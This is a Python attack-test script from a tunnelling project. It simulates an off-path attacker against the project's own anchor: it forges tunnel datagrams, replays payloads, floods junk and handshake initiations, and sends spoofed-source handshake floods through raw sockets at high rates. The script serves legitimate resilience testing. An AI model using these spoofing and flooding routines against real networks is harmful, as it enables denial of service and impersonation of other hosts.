"""The off-path attacker (run inside the attacker's namespace). Prints one JSON object.

Subcommands (all send to ``--target host:port``, the anchor's shared UDP port):

``forge``   DATA datagrams (0x80, 3 zero bytes, a receiver index -- random unless
            ``--index`` --, a counter, then an IPv4/TCP packet with the victim flow's
            5-tuple and 16 random bytes where the AEAD tag would be). With ``--spoof``
            the datagrams leave a raw socket with that source (e.g. towards the mobile
            host's NAT binding, pretending to be the anchor).
``replay``  datagram payloads from a JSON file (list of hex strings), from our own UDP
            socket or, with ``--spoof ADDR:PORT``, from a raw socket with that source.
``flood``   a bounded mix of junk: random bytes, plaintext SIP MESSAGE with an
            AssociationReq, HS_INIT-sized random data, and real Noise IK initiations
            from a key that is not a [[peer]] (valid mac1: it knows the anchor's key).
``hsflood`` for ``--seconds`` (or until SIGTERM): one such initiation (valid mac1, key not
            a [[peer]]) sent again and again from ``--distinct`` spoofed sources (raw
            socket): random addresses in ``--spoof-net``, or ``--spoof ADDR[:PORT]`` (one
            address, e.g. a victim's public NAT address: random ports unless given).
            Pre-built packets, sent with sendmmsg (``fastsend``), paced to ``--pps`` (0: as
            fast as the kernel takes them); SIGUSR1 pauses it, SIGUSR2 resumes. Reports the
            rate achieved while active (``pps``, ``run_s``) and its CPU time.
``inbound`` (no tunnel protocol at all) plain traffic to a host's VIpA ``--dst``, routed
            via the anchor: UDP datagrams to ``--port`` from our socket, ICMP echo requests
            and TCP SYNs (raw sockets, from our own address) to the same port; answers of
            any kind are counted (``received`` is their sum: UDP, echo replies, TCP to the
            SYNs' ports).

Whatever comes back to our own socket during ``--listen`` seconds after sending is
counted (``received``, ``received_bytes``): an anchor that keeps silent returns zeros.
``flood`` also counts, among those, the cookie replies (``received_cookies``: HS_COOKIE
that opens as the cookie for one of our own initiations) that an anchor under load sends.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))   # the repository

from tests.attack.rawsock import RawSender, checksum, tcp  # noqa: E402
from upmt_tun.signalling.handshake import INIT_LEN as HS_INIT_LEN  # noqa: E402

DATA = 0x80
HDR = struct.Struct("!B3xIQ")


def addr(text: str) -> tuple[str, int]:
    host, _, port = text.rpartition(":")
    return host, int(port)


class Pacer:
    """At most ``pps`` datagrams per second, in small bursts (bounded, never busy forever)."""

    def __init__(self, pps: float, burst: int = 32) -> None:
        self.gap = burst / pps if pps > 0 else 0.0
        self.burst, self.n, self.t = burst, 0, time.monotonic()

    def tick(self) -> None:
        self.n += 1
        if self.gap and self.n % self.burst == 0:
            self.t += self.gap
            delay = self.t - time.monotonic()
            if delay > 0:
                time.sleep(delay)
            else:
                self.t = time.monotonic()


class Sender:
    """Our own UDP socket (answers would come back to it), or a raw spoofing socket."""

    def __init__(self, spoof: tuple[str, int] | None) -> None:
        self.spoof = spoof
        self.raw = RawSender() if spoof else None
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        self.sent = self.sent_bytes = self.errors = 0
        self.got: list[bytes] = []

    def send(self, payload: bytes, dst: tuple[str, int]) -> None:
        try:
            if self.raw is not None and self.spoof is not None:
                self.raw.send_udp(self.spoof, dst, payload)
            else:
                self.sock.sendto(payload, dst)
        except OSError:
            self.errors += 1                     # e.g. ENOBUFS under a flood: count, go on
            return
        self.sent += 1
        self.sent_bytes += len(payload)

    def listen(self, seconds: float) -> dict[str, int]:
        got = got_bytes = 0
        deadline = time.monotonic() + seconds
        while (left := deadline - time.monotonic()) > 0:
            r, _, _ = select.select([self.sock], [], [], left)
            if r:
                data = self.sock.recv(65535)
                self.got.append(data)
                got += 1
                got_bytes += len(data)
        return {"received": got, "received_bytes": got_bytes}

    def result(self, listen: float, **extra: Any) -> dict[str, Any]:
        out: dict[str, Any] = {"sent": self.sent, "sent_bytes": self.sent_bytes,
                               "send_errors": self.errors, "local_port": self.sock.getsockname()[1]}
        out.update(extra)
        out.update(self.listen(listen))
        return out


def cmd_forge(a: argparse.Namespace) -> dict[str, Any]:
    s = Sender(addr(a.spoof) if a.spoof else None)
    dst = addr(a.target)
    pace = Pacer(a.pps)
    rnd = random.Random(a.seed)
    kinds = {"rst": 0, "ack": 0, "data": 0}
    for i in range(a.count):
        index = a.index if a.index is not None else rnd.getrandbits(32)
        counter = a.counter + i if a.counter is not None else rnd.getrandbits(64)
        kind = ("rst", "ack", "data")[i % 3]
        kinds[kind] += 1
        flags = {"rst": 0x04, "ack": 0x10, "data": 0x18}[kind]
        body = os.urandom(rnd.randrange(0, 1200)) if kind == "data" else b""
        inner = tcp(a.src, a.dst, a.sport, a.dport, seq=rnd.getrandbits(32),
                    ack=rnd.getrandbits(32), flags=flags, payload=body)
        s.send(HDR.pack(DATA, index, counter) + inner + os.urandom(16), dst)
        pace.tick()
    return s.result(a.listen, kinds=kinds)


def cmd_replay(a: argparse.Namespace) -> dict[str, Any]:
    payloads = [bytes.fromhex(h) for h in json.loads(Path(a.payloads).read_text())]
    s = Sender(addr(a.spoof) if a.spoof else None)
    dst = addr(a.target)
    pace = Pacer(a.pps)
    for _ in range(a.repeat):
        for p in payloads:
            s.send(p, dst)
            pace.tick()
    return s.result(a.listen, distinct=len(payloads))


def cmd_flood(a: argparse.Namespace) -> dict[str, Any]:
    from upmt_tun import keys
    from upmt_tun.signalling import sip, upmt
    from upmt_tun.signalling.handshake import Initiation

    s = Sender(None)
    dst = addr(a.target)
    pace = Pacer(a.pps)
    rnd = random.Random(a.seed)
    anchor_pub = base64.b64decode(a.anchor_pub)
    stranger = base64.b64decode(keys.generate())           # not a [[peer]] of the anchor
    initiations = [Initiation(static=stranger, remote_static=anchor_pub,
                              local_index=rnd.getrandbits(32) or 1, wall_ns=time.time_ns() + i)
                   for i in range(a.initiations)]
    inits = [i.packet for i in initiations]
    local = ("203.0.113.66", s.sock.getsockname()[1])
    kinds = {"random": 0, "plain_sip": 0, "hs_sized": 0, "initiation": 0}
    order = list(kinds)
    for i in range(a.count):
        kind = order[i % 4]
        if kind == "random":
            p = os.urandom(rnd.randrange(1, 1400))
        elif kind == "plain_sip":
            body = upmt.encode([("AssociationReq", {"sipId": rnd.choice(["laptop", "evil", "x"]),
                                                    "addressInUse": [], "dataPlaintext": False})])
            p = sip.build_request(target=dst, from_user="laptop", via=local,
                                  call_id=sip.new_token(), cseq=i + 1,
                                  branch=sip.BRANCH_MAGIC + sip.new_token(), body=body)
        elif kind == "hs_sized":
            p = bytes([0x81, 0, 0, 0]) + os.urandom(HS_INIT_LEN - 4)
        else:
            p = inits[(i // 4) % len(inits)]
        kinds[kind] += 1
        s.send(p, dst)
        pace.tick()
    out = s.result(a.listen, kinds=kinds, distinct_initiations=len(inits))
    by_index = {i.local_index: i for i in initiations}
    out["received_cookies"] = sum(
        1 for d in s.got if len(d) >= 8
        and (i := by_index.get(int.from_bytes(d[4:8], "big"))) is not None
        and i.consume_cookie(d) is not None)
    return out


def cmd_hsflood(a: argparse.Namespace) -> dict[str, Any]:
    import ipaddress

    from tests.attack.fastsend import BatchSender
    from tests.attack.rawsock import udp
    from upmt_tun import keys
    from upmt_tun.signalling.handshake import Initiation

    stranger = base64.b64decode(keys.generate())
    packet = Initiation(static=stranger, remote_static=base64.b64decode(a.anchor_pub),
                        local_index=1, wall_ns=time.time_ns()).packet
    dst = addr(a.target)
    rnd = random.Random(a.seed)
    if a.spoof:                              # one address (a victim's), its or random ports
        host, _, port = a.spoof.partition(":")
        sources = [(host, int(port) if port else rnd.randrange(1024, 65535))
                   for _ in range(a.distinct)]
    else:
        net = ipaddress.IPv4Network(a.spoof_net)
        base, size = int(net.network_address), net.num_addresses
        sources = [(str(ipaddress.IPv4Address(base + rnd.randrange(1, size - 1))),
                    rnd.randrange(1024, 65535)) for _ in range(a.distinct)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    sender = BatchSender(raw, [udp(h, dst[0], p, dst[1], packet, with_checksum=False)
                               for h, p in sources], dst)
    stop: list[int] = []
    pause = [a.paused]
    signal.signal(signal.SIGTERM, lambda signum, frame: stop.append(signum))
    signal.signal(signal.SIGUSR1, lambda signum, frame: pause.__setitem__(0, True))
    signal.signal(signal.SIGUSR2, lambda signum, frame: pause.__setitem__(0, False))
    print("ready", flush=True)               # (the signals are handled from here on)
    t_cpu = time.process_time()
    took = sender.run(a.seconds, a.pps, lambda: bool(stop), lambda: pause[0])
    cpu = time.process_time() - t_cpu
    raw.close()
    return {"sent": sender.sent, "sent_bytes": sender.sent * len(packet),
            "send_errors": sender.errors, "sources": len(set(sources)),
            "pps": round(sender.sent / took) if took > 0 else 0,
            "cpu_s": round(cpu, 2), "run_s": round(took, 2)}


def cmd_inbound(a: argparse.Namespace) -> dict[str, Any]:
    s = Sender(None)
    pace = Pacer(a.pps)
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    probe.connect((a.dst, a.port))                 # only to learn our source address
    src = probe.getsockname()[0]
    probe.close()
    for i in range(a.count):
        s.send(f"inbound {i}".encode(), (a.dst, a.port))
        pace.tick()
    icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    ident = os.getpid() & 0xFFFF
    for i in range(a.pings):
        echo = struct.pack("!BBHHH", 8, 0, 0, ident, i) + b"inbound"
        icmp.sendto(echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:], (a.dst, 0))
    tcp_rx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sports = {a.sport + i for i in range(a.syns)}
    with RawSender() as raw:
        for sport in sorted(sports):
            raw.send(tcp(src, a.dst, sport, a.port, seq=random.getrandbits(32), flags=0x02))
    udp = s.listen(a.listen)
    back = {"echo_replies": 0, "icmp_other": 0, "tcp_back": 0}
    back_bytes = 0
    for sock in (icmp, tcp_rx):                      # what the raw sockets queued meanwhile
        sock.setblocking(False)
        while True:
            try:
                pkt = sock.recv(65535)
            except BlockingIOError:
                break
            ihl = (pkt[0] & 0x0F) * 4
            if sock is icmp:
                back["echo_replies" if pkt[ihl] == 0 else "icmp_other"] += 1
            elif struct.unpack("!H", pkt[ihl + 2:ihl + 4])[0] in sports:
                back["tcp_back"] += 1
            else:
                continue
            back_bytes += len(pkt)
        sock.close()
    return {"sent": s.sent, "sent_bytes": s.sent_bytes, "pings": a.pings, "syns": len(sports),
            "src": src, "udp_received": udp["received"], **back,
            "received": udp["received"] + sum(back.values()),
            "received_bytes": udp["received_bytes"] + back_bytes}


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--target", default="203.0.113.1:5060")
    ap.add_argument("--listen", type=float, default=0.5, help="seconds to wait for answers")
    ap.add_argument("--pps", type=float, default=20000.0)
    ap.add_argument("--seed", type=int, default=None)
    sub = ap.add_subparsers(dest="cmd", required=True)
    f = sub.add_parser("forge")
    f.add_argument("--src", required=True)
    f.add_argument("--dst", required=True)
    f.add_argument("--sport", type=int, required=True)
    f.add_argument("--dport", type=int, required=True)
    f.add_argument("--count", type=int, default=1000)
    f.add_argument("--index", type=lambda x: int(x, 0), default=None)
    f.add_argument("--counter", type=lambda x: int(x, 0), default=None)
    f.add_argument("--spoof", default=None)
    r = sub.add_parser("replay")
    r.add_argument("--payloads", required=True)
    r.add_argument("--repeat", type=int, default=1)
    r.add_argument("--spoof", default=None)
    fl = sub.add_parser("flood")
    fl.add_argument("--count", type=int, default=20000)
    fl.add_argument("--anchor-pub", required=True)
    fl.add_argument("--initiations", type=int, default=200)
    hf = sub.add_parser("hsflood")
    hf.add_argument("--seconds", type=float, default=5.0)
    hf.add_argument("--anchor-pub", required=True)
    hf.add_argument("--spoof-net", default="198.18.0.0/15")
    hf.add_argument("--spoof", default=None, help="ADDR[:PORT]: one source address")
    hf.add_argument("--distinct", type=int, default=4096, help="pre-built packets")
    hf.add_argument("--paused", action="store_true", help="start paused (until SIGUSR2)")
    ib = sub.add_parser("inbound")
    ib.add_argument("--dst", required=True, help="the host's VIpA")
    ib.add_argument("--port", type=int, required=True)
    ib.add_argument("--count", type=int, default=200, help="UDP datagrams")
    ib.add_argument("--pings", type=int, default=10)
    ib.add_argument("--syns", type=int, default=5)
    ib.add_argument("--sport", type=int, default=45000, help="first TCP source port")
    a = ap.parse_args(argv)
    t0 = time.monotonic()
    out = {"forge": cmd_forge, "replay": cmd_replay, "flood": cmd_flood,
           "hsflood": cmd_hsflood, "inbound": cmd_inbound}[a.cmd](a)
    out["seconds"] = round(time.monotonic() - t0, 3)
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
